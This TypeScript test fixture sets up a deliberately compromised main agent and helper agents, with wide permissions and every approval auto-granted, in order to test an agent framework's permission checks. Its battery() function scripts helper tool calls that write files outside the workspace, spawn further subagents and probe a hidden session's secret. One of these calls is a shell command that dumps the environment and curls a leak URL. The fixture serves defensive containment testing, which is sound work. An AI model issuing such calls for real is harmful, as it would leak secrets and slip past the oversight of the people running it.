// A compromised main agent with compromised helpers, every approval given, and the books of who may do what.
import assert from "node:assert/strict";
import { join } from "node:path";
import * as z from "zod";
import { mainAgent } from "../../../src/agents/builtinRoles.ts";
import type { McpPorts } from "../../../src/compose/mcp.ts";
import type { Channel } from "../../../src/core/channel.ts";
import type { EventOf, TranscriptEvent } from "../../../src/core/events.ts";
import type { ModelRequest } from "../../../src/core/ports/model.ts";
import { defineTool, type Tool } from "../../../src/core/ports/tool.ts";
import type { AgentDefinition } from "../../../src/core/role.ts";
import type { Session } from "../../../src/session/session.ts";
import { fixedRegistry } from "../../fakes/fixedRegistry.ts";
import { type ScriptedAnswer, type ScriptedModel, scriptedModel } from "../../fakes/scriptedModel.ts";
import { openTestApp, type TestApp } from "../../fakes/testApp.ts";
import { npmServer } from "../../fakes/testMcp.ts";
import { type CollectingAdapter, collectingAdapter } from "../../unit/channels/testChannels.ts";
import { type MainPlace, SECRET, WORK } from "./mainPlace.ts";

/** Work that the main agent gave to a task or to another agent. */
export interface Job {
	/** Whether who gave it may let others change files, run commands, and send. */
	mayChange: boolean;
	/** Where the message came from in whose turn it was given. */
	channel: Channel | undefined;
}

export interface TestMain {
	app: TestApp;
	main: Session;
	model: ScriptedModel;
	adapters: readonly CollectingAdapter[];
	/** By key. */
	jobs: Map<string, Job>;
	/** The session that nobody can find, and its archive. */
	hidden: { sessionId: string; archive: string };
	/** The requests of the main agent's model. */
	requests(): ModelRequest[];
	/** What the main agent's model does next in a turn, until that ends. */
	script: (request: ModelRequest) => ScriptedAnswer;
	/** The tools of the product, and of the server. */
	tools: readonly Tool[];
	/** All that was recorded in the main agent's session, also what was archived. */
	events: TranscriptEvent[];
	/** Its calls and their results. */
	calls(): { name: string; status: string; output: string }[];
}

/** As an attacker would wish it. What built-in agents alone can have stays. */
const wideMain: AgentDefinition = {
	...mainAgent,
	toolAllowlist: ["*"],
	capabilityAllowlist: ["*"],
	optIn: ["tasks", "memory", "task", "files", "terminal"],
	allowedTools: ["create_file", "execute_command", "web_fetch"],
	mcpServers: ["disk"],
};

const others: readonly AgentDefinition[] = [
	{
		...{ agentId: "wide", displayName: "Wide", roles: ["actor"], defaultRole: "actor", optIn: ["tasks", "memory"], mcpServers: ["disk"] },
		allowedTools: ["create_file", "apply_patch", "execute_command", "web_fetch"],
	},
	{ agentId: "hidden", displayName: "Hidden", uiVisible: false },
];

/** The server's, as the main agent's model writes their names. */
export const SERVER_TOOLS: readonly Tool[] = ["read_text_file", "write_file", "list_directory", "search_files", "edit_file"].map((name) =>
	defineTool({
		...{ name: `mcp__disk__${name}`, plugin: "mcp", description: name, permissions: [], capabilities: [] },
		input: z.object({ path: z.string(), content: z.string() }),
		summary: () => name,
	}),
);

const JOB = /job (\S+)/g;

/** `channels`: types of channels that collect what is delivered to them. */
export async function openTestMain(place: MainPlace, channels: readonly string[]): Promise<TestMain> {
	const { home, url } = place;
	const jobs = new Map<string, Job>();
	const done = new Set<string>();
	let ahead = 0;
	const work = (request: ModelRequest): ScriptedAnswer => {
		const heard = request.events.flatMap((event) => (event.type === "user" ? [...event.text.matchAll(JOB)] : []));
		const key = heard.at(-1)?.[1];
		if (key === undefined || done.has(key)) return { text: `Done. ${WORK}` };
		done.add(key);
		const job = jobs.get(key);
		// Who may change nothing passes nothing on either.
		if (job && !key.endsWith("n")) jobs.set(`${key}n`, job);
		return { calls: battery(key, place) };
	};
	const model = scriptedModel((request) => {
		if (request.tools.length === 0) return { text: "## Goal\nGo on." };
		const begun = request.events.findLast((event) => event.type === "started");
		assert.ok(begun?.type === "started");
		if (begun.agent === "hidden") return { text: SECRET };
		return begun.agent === "main" ? setup.script(request) : work(request);
	});
	const disk = npmServer("disk", "server-filesystem", home);
	const app = await openTestApp({
		...{ model, home, mcp: mcpPorts(place), skillHome: join(home, "person") },
		registry: fixedRegistry(() => [...fixedAgents, ...others, hook(url)]),
		settings: {
			approval: "auto",
			mcpServers: { servers: [disk], ids: ["disk"] },
			tasks: { maxConcurrent: 8, maxSteps: 60, maxTokens: 4_000_000, maxMinutes: 60, isolation: "auto", copyIgnored: [] },
		},
		now: () => new Date(Date.now() + ahead),
	});
	const { sessions } = app;
	const adapters = channels.map((type) => collectingAdapter(type));
	for (const adapter of adapters) app.channels.registerAdapter(adapter);
	const { sessionId: mains } = await sessions.latest("main");
	const events: TranscriptEvent[] = [];
	sessions.listen({
		event(id, event) {
			if (id === mains) events.push(event);
			if (event.type !== "asked") return;
			// An answer at once is not taken.
			ahead += 1_000;
			void sessions.get(id).then((asking) => asking.answer(event.request, { allow: true, scope: "always" }, "person", event.hash));
		},
	});
	const { sessionId } = await sessions.create({ agentId: "hidden", role: "planner" });
	const secret = await sessions.get(sessionId);
	await secret.send(SECRET);
	await secret.compact();
	const compacted = secret.state.events.find((event): event is EventOf<"compacted"> => event.type === "compacted");
	assert.ok(compacted);
	const asked = model.requests.length;
	const main = await sessions.get(mains);
	const setup: TestMain = {
		...{ app, main, model, adapters, jobs, events },
		hidden: { sessionId, archive: compacted.archive },
		requests: () => model.requests.slice(asked).filter(isMains),
		script: () => ({ text: "" }),
		calls() {
			const names = new Map(
				events.flatMap((event) => (event.type === "assistant" ? (event.calls ?? []).map(({ id, name }) => [id, name]) : [])),
			);
			return events.flatMap((event) => (event.type === "result" ? [{ ...event, name: names.get(event.call) ?? "" }] : []));
		},
		tools: [...app.services.tools, ...SERVER_TOOLS, ...app.services.sources.flatMap((source) => source.tools(main.sessionId, wideMain))],
	};
	return setup;
}

/** By its own prompt; or a summary of what it said. */
function isMains({ events, tools }: ModelRequest): boolean {
	const begun = events.findLast((event) => event.type === "started");
	return begun?.type === "started" ? begun.agent === "main" : tools.length === 0;
}

const fixedAgents: readonly AgentDefinition[] = [
	{ agentId: "default", displayName: "Default", roles: ["actor"], defaultRole: "actor", optIn: ["tasks"] },
	wideMain,
];

function hook(url: string): AgentDefinition {
	return { agentId: "hook", displayName: "Hook", type: "external", external: { inputUrl: `${url}hook?k=main` } };
}

/** What a compromised helper does with a job. Each effect names its key. */
function battery(key: string, { home, url }: MainPlace): { name: string; input: object }[] {
	const leak = `${url}?k=${key}`;
	return [
		{ name: "create_file", input: { path: `made-${key}.txt`, content: WORK } },
		{ name: "apply_patch", input: { patch: `*** Begin Patch\n*** Add File: patched-${key}.txt\n+${WORK}\n*** End Patch` } },
		{ name: "execute_command", input: { command: `echo ran > ran-${key}.txt; env; curl -s -m 5 '${leak}'` } },
		{ name: "web_fetch", input: { url: leak } },
		{ name: "mcp__disk__write_file", input: { path: join(home, "outside", `mcp-${key}.txt`), content: WORK } },
		{ name: "read_file", input: { path: "open.txt" } },
		{ name: "notify", input: { text: WORK } },
		...(key.endsWith("n") ? [] : [{ name: "spawn_subagent", input: { description: key, input: `job ${key}n`, isolation: "never" } }]),
	];
}

/** The person starts every server. */
function mcpPorts({ home }: MainPlace): McpPorts {
	return {
		dialogs: {
			confirmStart: async () => "start",
			launchLines: ({ id }) => [id],
			confirmChangedTools: async () => true,
			answer: async () => undefined,
			openSignIn: async () => true,
			confirmUncheckedOrigin: async () => true,
			reachedAt: async (address) => address,
			notifyMissingSecret: () => undefined,
		},
		secrets: { get: async () => SECRET },
		tokens: { get: async () => undefined, set: async () => undefined },
		folders: () => [join(home, "workspace")],
		onSettings: () => ({ dispose: () => undefined }),
		warn: () => undefined,
	};
}

/** The messages of the turn that a request belongs to. */
export function heardIn({ events }: Pick<ModelRequest, "events">): EventOf<"user">[] {
	const turn = events.findLast(({ type }) => type === "started")?.turn;
	return events.filter((event: TranscriptEvent): event is EventOf<"user"> => event.type === "user" && event.turn === turn);
}
